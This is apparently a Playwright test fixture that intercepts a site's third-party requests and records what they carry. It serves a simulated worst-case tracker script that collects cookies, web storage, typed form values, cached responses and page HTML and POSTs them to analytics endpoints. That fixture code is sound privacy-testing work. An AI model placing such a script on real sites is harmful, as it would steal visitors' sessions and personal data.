import type { BrowserContext, Request } from "@playwright/test";
import { test as siteTest } from "./site-fixture.ts";

/** Every request of a context that leaves the site, answered here instead of by the third party. */
export interface ThirdParties {
  readonly requests: { readonly url: string; readonly text: string }[];
  /** Host names asked so far, each once, sorted. */
  hosts(): string[];
  /** Everything sent so far (addresses, headers, bodies) as one decoded text to search in. */
  everythingSent(): string;
}

/** Settings of a site that has both trackers. */
export const bothTrackers = { GA_MEASUREMENT_ID: "G-TEST1234", META_PIXEL_ID: "123456789012345" };

/**
 * A vendor's script at its worst: sends home all that a script of the page can read. It does so at once, when
 * anything is typed, and when the page is left.
 */
const greedyScript = (home: string) => `
(() => {
  const stored = async () => {
    const found = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const text = request.url.includes("/assets/") ? "" : await (await cache.match(request, { ignoreVary: true })).text();
        found.push(name, request.url, text);
      }
    }
    return found;
  };
  const send = (leaving, cached = []) => {
    const loot = {
      cached,
      location: location.href,
      referrer: document.referrer,
      title: document.title,
      fields: [...document.querySelectorAll("input, textarea")].map((field) => field.value),
      history: [history.state, ...(window.navigation?.entries() ?? []).map((entry) => entry.url)],
      storage: [{ ...localStorage }, { ...sessionStorage }, document.cookie, window.name],
      resources: performance.getEntries().map((entry) => entry.name),
      page: document.documentElement.outerHTML,
    };
    fetch(${JSON.stringify(home)}, {
      method: "POST",
      mode: "no-cors",
      keepalive: leaving,
      body: JSON.stringify(loot).slice(0, leaving ? 20_000 : Infinity), // 64 KB for all farewells of a page (Fetch)
    }).catch(() => {});
  };
  send(false);
  stored().then((cached) => send(false, cached));
  addEventListener("input", () => send(false), true);
  addEventListener("pagehide", () => send(true));
})();`;

const scripts: Readonly<Record<string, string>> = {
  "www.googletagmanager.com": `document.cookie = "_ga=GA1.1.111.222; Path=/; Max-Age=9999"; document.cookie = "_ga_TEST1234=GS1; Path=/; Max-Age=9999";
    ${greedyScript("https://region1.google-analytics.com/g/collect")}`,
  "connect.facebook.net": `document.cookie = "_fbp=fb.0.1.2; Path=/; Max-Age=9999"; localStorage.lastExternalReferrer = "empty";
    ${greedyScript("https://www.facebook.com/tr/")}`,
};

async function interceptThirdParties(context: BrowserContext, siteOrigin: string): Promise<ThirdParties> {
  const requests: { url: string; text: string }[] = [];
  await context.route(
    (url) => url.origin !== siteOrigin && url.protocol.startsWith("http"),
    async (route) => {
      const request = route.request();
      requests.push({ url: request.url(), text: await sentIn(request) });
      const script = scripts[new URL(request.url()).host];
      if (script) await route.fulfill({ contentType: "text/javascript", body: script });
      else if (request.isNavigationRequest()) await route.fulfill({ contentType: "text/html", body: "a store" });
      else await route.fulfill({ status: 204 });
    },
  );
  return {
    requests,
    hosts: () => [...new Set(requests.map(({ url }) => new URL(url).host))].sort(),
    everythingSent: () => requests.map(({ text }) => text).join("\n"),
  };
}

/** Playwright's test with third parties that are played here. */
export const test = siteTest.extend<{ thirdParties: ThirdParties }>({
  thirdParties: [
    async ({ context, baseURL }, use) => {
      await use(await interceptThirdParties(context, baseURL as string));
    },
    { auto: true },
  ],
});

/** A request as its receiver sees it: URL, headers and body, decoded. */
export async function sentIn(request: Request): Promise<string> {
  const text = [request.url(), JSON.stringify(await request.allHeaders()), request.postData() ?? ""].join("\n");
  return text.replace(/(%[0-9A-Fa-f]{2})+/g, (escaped) => {
    try {
      return decodeURIComponent(escaped);
    } catch {
      return escaped;
    }
  });
}
